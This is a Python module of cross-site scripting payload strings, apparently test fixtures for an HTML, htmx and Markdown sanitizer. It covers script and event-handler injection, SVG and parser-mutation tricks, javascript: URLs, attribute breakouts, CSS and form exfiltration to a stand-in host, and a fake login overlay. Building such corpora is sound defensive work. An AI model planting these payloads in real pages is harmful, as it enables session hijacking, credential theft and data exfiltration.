"""The forms of strings that a browser acts upon; `§` stands for the mark of each.

Short wherever it can be, so that even a name can hold them.
"""

SCRIPT = (
    "<script>pwned('§')</script>",
    "<SCRIPT SRC=//hostile.example/§.js></SCRIPT>",
    "<script/src=//hostile.example/§></script>",
    "<script\n>pwned('§')</script>",
    "<script type=module>pwned('§')</script>",
    "<script type=text/hyperscript>call pwned('§')</script>",
    "<scr<script>ipt>pwned('§')</scr</script>ipt>",
    "<<script>pwned('§')//<</script>",
    "<script>/*§*/pwned('§')<!--</script>",
    "</title><script>pwned('§')</script>",
    "</textarea><script>pwned('§')</script>",
    "</script><script>pwned('§')</script>",
    "<script>alert('§')</script>",
    "<script x-§ nonce=a>pwned('§')</script>",
    "<script>import('//hostile.example/§')</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=pwned('§')>\">",
    "<template><script>pwned('§')</script></template>",
    "<script defer src='data:text/javascript,pwned(%22§%22)'></script>",
)


def handlers() -> list[str]:
    """Return an element for each way in which one calls a handler without being touched."""
    elements = (
        "img src=x onerror", "img src onerror", "video src=x onerror", "audio src=x onerror",
        "video><source onerror", "body onload", "body onpageshow", "body onhashchange",
        "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus",
        "button autofocus onfocus", "details open ontoggle", "marquee onstart",
        "object data=x onerror", "iframe onload", "embed src=x onload", "style onload",
        "link rel=stylesheet href=x onerror", "div onpointerenter", "p onclick",
        "a href=# onmouseover", "form onformdata", "dialog open onclose", "track onerror",
        "meter onclick", "isindex onfocus", "div contenteditable autofocus onfocus",
        "xss-§ tabindex=1 autofocus onfocusin", "div popover id=§ onbeforetoggle",
        "div style=animation:x onanimationstart", "div style=transition:1s ontransitionend",
        "audio controls oncanplay", "keygen onfocus",
    )  # fmt: skip
    return [f"<{one}=pwned('§')>" for one in elements]


VECTOR_GRAPHICS = (
    "<svg onload=pwned('§')>",
    "<svg/onload=pwned('§')//",
    "<svg><script>pwned('§')</script></svg>",
    "<svg><script href=//hostile.example/§ /></svg>",
    "<svg><animate onbegin=pwned('§') attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=pwned('§')>",
    "<svg><a xlink:href=javascript:pwned('§')><text y=9>§</text></a>",
    "<svg><use href=//hostile.example/§.svg#x></svg>",
    "<svg><image href=//hostile.example/§.png onerror=pwned('§')>",
    "<svg><foreignObject><img src=x onerror=pwned('§')></foreignObject>",
    "<svg><style>@import '//hostile.example/§';</style></svg>",
    "<svg><desc><![CDATA[</desc><script>pwned('§')</script>]]>",
    "<svg><handler type=text/javascript>pwned('§')</handler>",
    "<math><mtext><img src=x onerror=pwned('§')></mtext></math>",
    "<math href=javascript:pwned('§')>§</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:pwned('§')>§",
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="pwned(\'§\')"/>',
)

MUTATION = (
    "<noscript><style></noscript><img title=\"</style><img src onerror=pwned('§')>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=pwned('§')>\">",
    "<math><mtext><table><mglyph><style><img src onerror=pwned('§')>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned('§')>",
    "<table><td><svg><desc><td><img src onerror=pwned('§')>",
    "<listing>&lt;img src onerror=pwned('§')&gt;</listing>",
    "<xmp><img src onerror=pwned('§')></xmp>",
    "<plaintext><img src onerror=pwned('§')>",
    "&lt;img src=x onerror=pwned('§')&gt;",
    "&amp;lt;img src=x onerror=pwned('§')&amp;gt;",
    "&#60;img src=x onerror=pwned('§')&#62;",
    "&#x3c;img src=x onerror=pwned('§')&#x3e;",
    "&#0000060img src=x onerror=pwned('§')>",
    "&LT;img src=x onerror=pwned('§')&GT;",
    "%3Cimg src=x onerror=pwned('§')%3E",
    "\\u003cimg src=x onerror=pwned('§')\\u003e",
    "\\x3cimg src=x onerror=pwned('§')\\x3e",
    "+ADw-img src=x onerror=pwned('§')+AD4-",
    "¼img src=x onerror=pwned('§')¾",
    "＜img src=x onerror=pwned('§')＞",
    "‹img src=x onerror=pwned('§')›",
    "<!--><img src=x onerror=pwned('§')>-->",
    "<!--§--!><img src=x onerror=pwned('§')>",
    "<![CDATA[<img src=x onerror=pwned('§')>]]>",
    "<!DOCTYPE x><img src=x onerror=pwned('§')>",
    "<a title=`><img src=x onerror=pwned('§')>`>",
    '<img src=\'x"onerror=pwned("§")\'>',
    "<p id='</p><img src=x onerror=pwned(§)>'>",
)


def addresses() -> list[str]:
    """Return addresses that run something, alone and in every attribute that takes one."""
    schemes = (
        "javascript:pwned('§')", "JaVaScRiPt:pwned('§')", " javascript:pwned('§')",
        "java\tscript:pwned('§')", "java&#10;script:pwned('§')", "javascript&colon;pwned('§')",
        "&#106;avascript:pwned('§')", "\x01javascript:pwned('§')", "javascript://%0apwned('§')",
        "javascript:/*https://x/*/pwned('§')", "feed:javascript:pwned('§')",
        "view-source:javascript:§", "vbscript:pwned(\"§\")", "livescript:pwned('§')",
        "mocha:pwned('§')", "data:text/html,<script>pwned('§')</script>",
        "data:text/html;base64,PHNjcmlwdD4=§", "data:image/svg+xml,<svg onload=pwned('§')>",
        "data:,§", "blob:https://hostile.example/§", "filesystem:https://hostile.example/§",
        "file:///etc/passwd#§", "about:blank#§", "jar:https://hostile.example!/§",
        "ms-word:ofe|u|https://hostile.example/§", "intent:#§;end", "https://hostile.example/§",
        "//hostile.example/§", "\\\\hostile.example\\§", "https:hostile.example/§",
        "https://localhost@hostile.example/§", "mailto:a@b.example?bcc=§",
        "https://hostile.example/\"onmouseover=pwned('§')//", "tel:§", "sms:§", "x-§:y",
    )  # fmt: skip
    attributes = (
        "a href", "area href", "img src", "img srcset", "img lowsrc", "input type=image src",
        "iframe src", "frame src", "embed src", "object data", "form action", "button formaction",
        "video poster", "video src", "audio src", "track src", "link rel=preload as=image href",
        "link rel=icon href", "link rel=stylesheet href", "link rel=import href", "base href",
        "body background", "table background", "blockquote cite", "ins cite", "applet code",
        "image src", "a ping", "html manifest", "bgsound src", "source srcset",
    )  # fmt: skip
    return [*schemes, *(f"<{one}=//hostile.example/§>§" for one in attributes)]


BREAKING_OUT = (
    "\" onmouseover=pwned('§') x=\"",
    "' onmouseover=pwned(\"§\") x='",
    "\" autofocus onfocus=pwned('§') x=\"",
    "' autofocus onfocus=pwned(\"§\") x='",
    "` autofocus onfocus=pwned('§') x=`",
    "x autofocus onfocus=pwned('§')",
    "x onerror=pwned('§') src=x",
    "\"><img src=x onerror=pwned('§')>",
    '\'><img src=x onerror=pwned("§")>',
    "`><img src=x onerror=pwned('§')>",
    "--><img src=x onerror=pwned('§')>",
    "]]><img src=x onerror=pwned('§')>",
    "*/</style><img src=x onerror=pwned('§')>",
    "</option></select><img src=x onerror=pwned('§')>",
    "</td></tr></table><img src=x onerror=pwned('§')>",
    "</button></form><img src=x onerror=pwned('§')>",
    "</svg><img src=x onerror=pwned('§')>",
    "</a><img src=x onerror=pwned('§')>",
    "</style><img src=x onerror=pwned('§')>",
    "</iframe><img src=x onerror=pwned('§')>",
    "';pwned('§');//",
    '";pwned("§");//',
    "\\';pwned('§');//",
    "${pwned('§')}",
    "`-pwned('§')-`",
    "\\\"-pwned('§')}//",
    "'-pwned('§')-'",
    "\u2028pwned('§')",
    '" style="background:url(//hostile.example/§)',
    '" style="animation-name:§',
    '" srcdoc="<script>pwned(§)</script>',
    '" formaction="//hostile.example/§',
    '" class="§" id="§" x="',
    "\" x-§='",
)

PAGE = (
    "<meta http-equiv=refresh content='0;url=//hostile.example/§'>",
    "<meta http-equiv=Content-Security-Policy content='§'>",
    "<meta http-equiv=set-cookie content='§=1'>",
    "<meta name=csrf-token content=§>",
    "<meta name=htmx-config content='{\"allowEval\":true}' id=§>",
    "<meta name=referrer content=unsafe-url id=§>",
    "<base href=//hostile.example/§/>",
    "<base target=§>",
    "<form action=//hostile.example/§><input name=csrf_token><button>§",
    "</form><form action=//hostile.example/§ id=§><button>§</button>",
    "<button form=export-form formaction=//hostile.example/§>§",
    "<input type=hidden name=unit_name value=§>",
    "<input type=password name=password form=§>",
    "<iframe srcdoc='<script>parent.pwned(`§`)</script>'>",
    "<iframe src=javascript:parent.pwned('§')></iframe>",
    "<object data='data:text/html,<script>pwned(`§`)</script>'>",
    "<link rel=dns-prefetch href=//§.hostile.example>",
    "<link rel=prefetch href=//hostile.example/§>",
    "<style>@import'//hostile.example/§';</style>",
    "<style>body{background:url(//hostile.example/§)}</style>",
    "<style>input[value^=a]{background:url(//hostile.example/§)}</style>",
    "<div style='background:url(//hostile.example/§)'>",
    "<div style=position:fixed;inset:0;z-index:9999 id=§>Log in again</div>",
    "<img src='//hostile.example/§?",
    "<img name=getElementById id=§>",
    "<form id=§ name=body><input name=parentNode>",
    "<a id=toast name=toast x-§>",
    "<div id=news x-§>",
    "<div id=main x-§>",
    "<body bgcolor=§>",
    "<frameset onload=pwned('§')>",
    "<marquee id=§>",
    "<portal src=//hostile.example/§>",
    "<fencedframe config=§>",
    "<slot name=§>",
    "<blink id=§>§</blink>",
)


def htmx() -> list[str]:
    """Return elements and loose attributes that htmx would act upon."""
    attributes = (
        "hx-get=//hostile.example/§", "hx-post=/logout", "hx-put=/§", "hx-patch=/§", "hx-delete=/§",
        "data-hx-get=//hostile.example/§", "data-hx-post=/logout", "hx-on=load:pwned('§')",
        "hx-on:load=pwned('§')", "hx-on:click=pwned('§')", "hx-on::load=pwned('§')",
        "hx-on:htmx:load=pwned('§')", "hx-on--after-request=pwned('§')",
        "data-hx-on:load=pwned('§')", "data-hx-on--load=pwned('§')", "hx-vals=js:{a:pwned('§')}",
        "hx-vals=javascript:{a:pwned('§')}", "hx-vars=a:pwned('§')", "hx-headers=js:{a:pwned('§')}",
        "hx-headers='{\"X-§\":\"1\"}'", "hx-request=js:{a:pwned('§')}", "hx-ext=§",
        "hx-include=* id=§", "hx-params=* id=§", "hx-swap-oob=true id=flash",
        "hx-swap-oob=innerHTML:#main id=§", "hx-select-oob=#main id=§", "hx-boost=true id=§",
        "hx-push-url=//hostile.example/§", "hx-confirm=§", "hx-prompt=§", "hx-disinherit=* id=§",
        "hx-history=false id=§", "hx-preserve=true id=§", "ws-connect=//§",
        "sse-connect=//hostile.example/§", "hx-sse=connect:/§", "hx-ws=connect:/§",
        "hx-target=body id=§", "hx-indicator=body id=§", "hx-encoding=multipart/form-data id=§",
    )  # fmt: skip
    triggers = (
        "load", "revealed", "intersect", "every 1s", "load[pwned('§')]", "click[pwned('§')]",
        "load delay:1s", "htmx:load from:body", "keyup from:document", "load once queue:all",
    )  # fmt: skip
    loose = (
        '" hx-get=//hostile.example/§ hx-trigger=load x="',
        "' hx-on:load=pwned(\"§\") x='",
        "\" hx-trigger=load[pwned('§')] hx-get=/ x=\"",
        "\" data-hx-on--load=pwned('§') x=\"",
        "HX-Redirect: //hostile.example/§",
        'HX-Trigger: {"§":1}',
        "\r\nHX-Location: //hostile.example/§",
    )
    made = [f"<b {one} hx-trigger=load>§</b>" for one in attributes]
    return [*made, *(f'<b hx-get=/?§ hx-trigger="{one}">§</b>' for one in triggers), *loose]


def markdown() -> list[str]:
    """Return Markdown that should become a link, a picture or an element, and must not run."""
    targets = (
        "javascript:pwned('§')", "JAVASCRIPT:pwned(`§`)", "<javascript:pwned('§')>",
        "java&Tab;script:pwned('§')", "javascript&#58;pwned('§')", "&#x6A;avascript:pwned('§')",
        "vbscript:§", "data:text/html,§", "data:image/svg+xml,§", "file:///§",
        "\\javascript:pwned('§')", "x:\"onmouseover=pwned('§')", "/§ \"'onmouseover=pwned()\"",
        "//hostile.example/§",
    )  # fmt: skip
    links = [f"[§]({target})" for target in targets]
    pictures = [f"![§]({target})" for target in targets[:4]]
    return [
        *links,
        *pictures,
        "![§](https://hostile.example/§.png)",
        "<javascript:pwned('§')>",
        "<https://hostile.example/§>",
        "<x@hostile.example\"onclick=pwned('§')>",
        "[§]: javascript:pwned('§')",
        "[§][1]\n\n[1]: javascript:pwned('§')",
        "|a§|b|\n|:-|-:|\n|1|2|",
        "|a|\n|:-:|\n|<b onclick=pwned('§')>|",
        "```§\" onclick=pwned('§')\nx\n```",
        "~~~<b onclick=pwned('§')>\nx\n~~~",
        "`<img src=x onerror=pwned('§')>`",
        "    <img src=x onerror=pwned('§')>",
        "<div>\n*§*\n<img src=x onerror=pwned('§')>\n</div>",
        "# <img src=x onerror=pwned('§')> {#§ onclick=pwned()}",
        "[a](/§){onclick=pwned('§') .x}",
        "* [ ] <input onfocus=pwned('§') autofocus>",
        "&lt;b id=§&gt; &#60;b id=§&#62;",
        "**<b id=§>** _<i id=§>_ ~~<s id=§>~~",
        "9999999999. § <b id=§>",
        "[§](<x y> '<b onclick=pwned()>')",
    ]
